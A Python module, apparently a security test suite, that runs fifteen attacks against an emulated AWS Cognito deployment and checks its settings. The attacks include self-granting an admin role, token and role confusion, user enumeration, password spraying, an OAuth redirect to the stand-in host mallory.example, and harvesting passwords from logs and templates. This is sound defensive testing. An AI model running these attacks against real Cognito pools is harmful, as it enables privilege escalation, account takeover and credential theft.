"""Fifteen ways to attack a Cognito deployment, each as something that is done to one, or read from its settings.

An attack says what it won, or nothing where it was refused. It is decided live where the emulator enforces what would
stop it. Where the emulator doesn't, the attack says so in `unenforced`, and is decided by what `describe-*` answers.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from functools import partial
from typing import Any

from botocore.exceptions import ClientError

from victim import PASSWORD, Victim, refused

NOT_AUTHORIZED = "NotAuthorizedException"
AUTHORITY = {"custom:role"}
"""What an app of this environment decides by."""


@dataclass(frozen=True)
class Attack:
    """Each is `live`, `settings` or both, where the live one is what the emulator lets through for want of a check."""

    name: str
    live: Callable[[Victim], str] | None = None
    settings: Callable[[Victim], Iterator[str]] | None = None
    unenforced: str = ""

    def won(self, victim: Victim) -> str:
        """By the way that decides."""
        if self.settings:
            return "; ".join(self.settings(victim))
        assert self.live
        return self.live(victim)

    def __str__(self) -> str:
        return f"{self.name} ({'settings' if self.settings else 'live'})"


def own_role(victim: Victim) -> str:
    change = [{"Name": "custom:role", "Value": "admin"}]
    token = victim.sign_in()["AccessToken"]
    write = partial(victim.client("cognito-idp").update_user_attributes, AccessToken=token, UserAttributes=change)
    return "" if refused(write, NOT_AUTHORIZED) else "wrote custom:role"


def writable_authority(victim: Victim) -> Iterator[str]:
    writable = victim.app_client().get("WriteAttributes")
    if writable is None or AUTHORITY & set(writable):
        yield "the app's client may write custom:role"


def swapped_address(victim: Victim) -> Iterator[str]:
    pool = victim.pool
    if "email" not in pool.get("UserAttributeUpdateSettings", {}).get("AttributesRequireVerificationBeforeUpdate", ()):
        yield "an e-mail address counts before it is verified"
    if "email" not in pool.get("AutoVerifiedAttributes", ()):
        yield "nobody verifies e-mail addresses"
    if pool.get("UsernameConfiguration", {}).get("CaseSensitive", True):
        yield "ALICE@ is not alice@"


def role_confusion(victim: Victim) -> str:
    """With the token of a guest, and with that of somebody who signed in to the attacker's own identity pool."""
    identities, cognito = victim.client("cognito-identity"), victim.client("cognito-idp")
    guest = identities.get_open_id_token(**victim.identity())["Token"]
    pool = cognito.create_user_pool(PoolName="mallory")["UserPool"]["Id"]
    flows = ["ALLOW_USER_PASSWORD_AUTH"]
    app = cognito.create_user_pool_client(UserPoolId=pool, ClientName="mallory", ExplicitAuthFlows=flows)
    client_id = app["UserPoolClient"]["ClientId"]
    parameters = {"USERNAME": victim.make_user(pool, "mallory"), "PASSWORD": PASSWORD}
    signed_in = cognito.initiate_auth(ClientId=client_id, AuthFlow="USER_PASSWORD_AUTH", AuthParameters=parameters)
    logins = victim.logins(signed_in["AuthenticationResult"]["IdToken"], pool)
    provider = {"ProviderName": next(iter(logins)), "ClientId": client_id}
    own = identities.create_identity_pool(
        IdentityPoolName="mallory", AllowUnauthenticatedIdentities=False, CognitoIdentityProviders=[provider]
    )["IdentityPoolId"]
    identity = identities.get_id(IdentityPoolId=own, Logins=logins)["IdentityId"]
    foreign = identities.get_open_id_token(IdentityId=identity, Logins=logins)["Token"]
    won = [
        f"{whose} token opens {role.rpartition('/')[2]}"
        for whose, token in {"a guest's": guest, "another identity pool's": foreign, "a made-up": "e30.e30.e30"}.items()
        for role in victim.roles
        if not refused(partial(victim.take_role, role, token), "AccessDenied", "InvalidIdentityToken")
    ]
    return "; ".join(won)


def keys_for_nobody(victim: Victim) -> str:
    def receive() -> object:
        return victim.client("cognito-identity").get_credentials_for_identity(**victim.identity())

    return "" if refused(receive, NOT_AUTHORIZED) else "keys without signing in"


def guests(victim: Victim) -> Iterator[str]:
    pool = victim.identity_pool
    if pool["AllowUnauthenticatedIdentities"]:
        yield "guests are on"
    if pool.get("AllowClassicFlow"):
        yield "whoever has a token picks the role"


def role_of_choice(victim: Victim) -> str:
    identity = victim.identity(victim.sign_in()["IdToken"])
    asked = {**identity, "CustomRoleArn": victim.value("groups/admins/role-arn")}
    receive = partial(victim.client("cognito-identity").get_credentials_for_identity, **asked)
    return "" if refused(receive, NOT_AUTHORIZED) else "asked for the role of a group, and was not refused"


def ambiguous_roles(victim: Victim) -> Iterator[str]:
    mappings = victim.attachment.get("RoleMappings") or {"none": {}}
    for mapping in mappings.values():
        if mapping.get("Type") != "Token":
            yield "the token does not decide the role"
        elif mapping.get("AmbiguousRoleResolution") != "Deny":
            yield "whoever has no one role receives the authenticated one"
    precedences = victim.groups.values()
    if len(set(precedences)) < len(precedences):
        yield "two groups have one precedence"


def uninvited(victim: Victim) -> str:
    newcomer = {"Username": "newcomer@example.com", "Password": PASSWORD}
    asked = {"ClientId": victim.client_id(), "UserAttributes": [{"Name": "email", "Value": newcomer["Username"]}]}
    sign_up = partial(victim.client("cognito-idp").sign_up, **asked, **newcomer)
    return "" if refused(sign_up, NOT_AUTHORIZED, "UsernameExistsException") else "signed up"


def open_sign_up(victim: Victim) -> Iterator[str]:
    if not victim.pool["AdminCreateUserConfig"]["AllowAdminCreateUserOnly"]:
        yield "anybody may sign up"


def enumeration(victim: Victim) -> str:
    def answer(username: str) -> str:
        try:
            victim.sign_in(username, "not the password")
        except ClientError as error:
            return str(error.response["Error"])
        return "signed in"

    known, unknown = answer("alice@example.com"), answer("nobody@example.com")
    return "" if known == unknown else f"an unknown user is answered {unknown}"


def unasked_sms(victim: Victim) -> Iterator[str]:
    pool = victim.pool
    ways = {way["Name"] for way in pool.get("AccountRecoverySetting", {}).get("RecoveryMechanisms", ())}
    if "verified_phone_number" in ways or not ways:
        yield "whoever knows a name has Cognito send SMS to recover it"
    if "phone_number" in pool.get("AutoVerifiedAttributes", ()) and any(open_sign_up(victim)):
        yield "whoever signs up has Cognito send SMS to any number"


def confused_deputy(victim: Victim) -> Iterator[str]:
    deputies = [
        role for role in victim.own_roles if "cognito-idp.amazonaws.com" in json.dumps(role["AssumeRolePolicyDocument"])
    ]
    assert deputies, "the environment has no role for Cognito to send SMS with"
    for role in deputies:
        for statement in role["AssumeRolePolicyDocument"]["Statement"]:
            conditions = {key.lower() for keys in statement.get("Condition", {}).values() for key in keys}
            if lacking := {"sts:externalid", "aws:sourceaccount", "aws:sourcearn"} - conditions:
                yield f"Cognito acts for anybody's pool: no {', '.join(sorted(lacking))}"


def stolen_refresh_token(victim: Victim) -> Iterator[str]:
    client = victim.app_client()
    if not client.get("EnableTokenRevocation"):
        yield "it can't be revoked"
    units = client.get("TokenValidityUnits", {}).get("RefreshToken", "days")
    if timedelta(**{units: client["RefreshTokenValidity"]}) > timedelta(days=30):
        yield "it lives for more than 30 days"


def spraying(victim: Victim) -> str:
    """Many passwords in the clear, which SRP would make slow and threat protection can't see."""
    parameters = {"USERNAME": victim.mallory, "PASSWORD": PASSWORD}
    asked = {"ClientId": victim.client_id(), "AuthFlow": "USER_PASSWORD_AUTH", "AuthParameters": parameters}
    start = partial(victim.client("cognito-idp").initiate_auth, **asked)
    return "" if refused(start, "InvalidParameterException") else "a password was enough, and sent in the clear"


def redirect(victim: Victim) -> str:
    """To where somebody on the way reads along, to the attacker, and with the token in the address itself."""
    app = "https://app.example.com/callback"
    ways = {
        "the code is sent in clear text": {"redirect_uri": app.replace("https", "http"), "response_type": "code"},
        "the code is sent to anybody": {"redirect_uri": "https://mallory.example/", "response_type": "code"},
        "the token stands in the address": {"redirect_uri": app, "response_type": "token"},
    }
    assert victim.authorize(redirect_uri=app, response_type="code"), "the app itself can't sign in"
    return "; ".join(what for what, asked in ways.items() if victim.authorize(**asked))


def token_mix_up(victim: Victim) -> str:
    tokens = {
        "an access token": victim.sign_in()["AccessToken"],
        "another app's ID token": victim.sign_in(client="other")["IdToken"],
        "a made-up token": "e30.e30.e30",
    }
    won = [what for what, token in tokens.items() if not refused(partial(victim.identity, token), NOT_AUTHORIZED)]
    return f"{' and '.join(won)} gives an identity" if won else ""


def secrets_lying_about(victim: Victim) -> str:
    """In what many may read: templates, outputs, parameters, functions' settings and logs."""
    password = victim.seed_password
    as_json = json.dumps(password)[1:-1]
    spellings = (password, as_json, json.dumps(as_json)[1:-1])  # JSON may hold JSON
    cloudformation, functions, logs = (victim.client(name) for name in ("cloudformation", "lambda", "logs"))
    seen: dict[str, Any] = {"outputs": cloudformation.describe_stacks()["Stacks"]}
    for stack in (victim.names.user_pool_stack, victim.names.identity_pool_stack):
        seen[f"the template of {stack}"] = cloudformation.get_template(StackName=stack)["TemplateBody"]
    parameters = victim.client("ssm").get_paginator("get_parameters_by_path")
    seen["parameters"] = list(parameters.paginate(Path=victim.names.parameter(""), Recursive=True))
    seen["functions"] = functions.list_functions()["Functions"]
    for group in logs.describe_log_groups()["logGroups"]:
        name = group["logGroupName"]
        seen[f"the log {name}"] = logs.filter_log_events(logGroupName=name)["events"]
    assert any(events for name, events in seen.items() if name.startswith("the log ")), "nothing was logged at all"
    texts = {where: json.dumps(what, default=str) for where, what in seen.items()}
    won = [f"a password in {where}" for where, text in texts.items() if any(each in text for each in spellings)]
    if "ClientSecret" in victim.app_client():
        won.append("a client secret")
    return "; ".join(won)


def keys_after_the_end(victim: Victim) -> str:
    cognito, key = victim.client("cognito-idp"), {"UserPoolId": victim.pool_id, "Username": victim.mallory}
    identity = victim.identity(victim.sign_in()["IdToken"])
    cognito.admin_disable_user(**key)
    try:
        receive = partial(victim.client("cognito-identity").get_credentials_for_identity, **identity)
        return "" if refused(receive, NOT_AUTHORIZED) else "keys for a user who is disabled"
    finally:
        cognito.admin_enable_user(**key)


def unchecked_tokens(victim: Victim) -> Iterator[str]:
    for provider in victim.identity_pool["CognitoIdentityProviders"]:
        if not provider.get("ServerSideTokenCheck"):
            yield f"nobody asks the user pool about the tokens of {provider['ClientId']}"
    for role in victim.own_roles:
        if role["MaxSessionDuration"] > 3600:
            yield f"keys of {role['RoleName']} live for {role['MaxSessionDuration']} s"


ATTACKS = (
    Attack("S1 own role raised", own_role, writable_authority, "WriteAttributes"),
    Attack("S2 somebody's address taken", settings=swapped_address),
    Attack("S3 role confusion", role_confusion),
    Attack("S4 keys for nobody", keys_for_nobody, guests, "AllowUnauthenticatedIdentities"),
    Attack("S5 a richer role picked", role_of_choice, ambiguous_roles, "CustomRoleArn, role mappings"),
    Attack("S6 uninvited sign-up", uninvited, open_sign_up, "AllowAdminCreateUserOnly"),
    Attack("S7 users enumerated", enumeration),
    Attack("S8 SMS pumped", settings=unasked_sms),
    Attack("S9 a confused deputy", settings=confused_deputy),
    Attack("S10 a stolen refresh token", settings=stolen_refresh_token),
    Attack("S11 passwords sprayed", spraying),
    Attack("S12 an open redirect", redirect),
    Attack("S13 tokens mixed up", token_mix_up),
    Attack("S14 secrets lying about", secrets_lying_about),
    Attack("S15 keys after the end", keys_after_the_end, unchecked_tokens, "ServerSideTokenCheck"),
)
